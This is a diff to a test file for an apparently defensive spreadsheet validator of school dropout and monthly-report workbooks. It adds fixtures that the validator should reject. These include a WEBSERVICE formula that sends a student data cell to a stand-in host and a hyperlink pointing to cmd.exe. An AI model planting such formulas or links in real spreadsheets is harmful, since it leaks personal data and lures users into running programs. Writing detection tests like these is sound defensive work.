@@ -20,6 +20,19 @@ def with_formula(sheet, column, formula, row=ROW1):
     return fn
 
 
+def with_link(sheet, column, target, row=ROW1):
+    def fn(wb):
+        ws = wb[sheet]
+        ws.cell(row=row, column=header_col(ws, column)).hyperlink = target
+    return fn
+
+
+def on_cell(sheet, ref, value):
+    def fn(wb):
+        wb[sheet][ref].value = value
+    return fn
+
+
 def rename_header(sheet, old, new):
     def fn(wb):
         ws = wb[sheet]
@@ -84,6 +97,16 @@ CASES = [
     Case("F012", setting(DROP, 姓名="张三3"), [(E, DROP, ROW1, "姓名")], good=setting(DROP, 姓名="买买提·艾力")),
     Case("F013", None, [(E, DROP, ROW1, "班级")], bad_file=with_formula(DROP, "班级", '=HYPERLINK("http://x.cn","2班")'),
          good=setting(DROP, 备注="=待核实", 班级="+1")),
+    # any other formula: in a header, on 月报汇总 in place of the template's, on the hidden 代码表 or on 校验结果
+    Case("F013", None, [(E, "月报汇总", 6, "C6")], bad_file=on_cell("月报汇总", "C6", '=WEBSERVICE("http://e.cn/?d="&辍学!$E$4)'),
+         label="summary"),
+    Case("F013", None, [(E, "代码表", 30, "A30")], bad_file=on_cell("代码表", "A30", "=1+1"), label="codes"),
+    Case("F013", None, [(E, "校验结果", 3, "H3")], bad_file=on_cell("校验结果", "H3", "=NOW()"), label="findings"),
+    Case("F013", None, [(E, DROP, 3, "AH3")], bad_file=on_cell(DROP, "AH3", '="备"&"注"'), label="header"),
+    Case("S006", None, [(E, DROP, ROW1, "B4")], bad_file=with_link(DROP, "姓名", "file:///C:/Windows/System32/cmd.exe"),
+         good=setting(DROP, 备注="file:///C:/x.exe")),
+    Case("S007", None, [(W, DROP, ROW1, "B4")], bad_file=with_link(DROP, "姓名", "http://example.cn/"),
+         good=setting(DROP, 备注="http://example.cn/")),
     Case("F014", setting("送教记录", 课时=0), [(E, "送教记录", ROW1, "课时")], good=setting("送教记录", 课时=2.5),
          label="zero"),
     Case("F014", setting("送教记录", 课时="两节"), [(E, "送教记录", ROW1, "课时")], label="text"),
